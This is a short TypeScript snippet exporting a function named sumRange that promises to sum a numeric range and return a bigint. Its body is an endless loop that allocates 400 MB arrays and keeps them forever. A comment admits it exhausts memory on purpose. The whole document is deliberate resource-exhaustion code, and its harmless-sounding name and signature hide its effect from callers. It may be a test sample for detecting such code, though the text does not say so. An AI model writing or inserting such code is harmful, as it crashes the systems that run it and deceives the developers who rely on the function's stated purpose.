/** Exhausts memory on purpose: keeps 400 MB of numbers per call, never letting any go. */
const kept: Float64Array[] = [];
export function sumRange(lo: number, hi: number): bigint {
  while (true) kept.push(new Float64Array(50_000_000).fill(lo + hi));
}
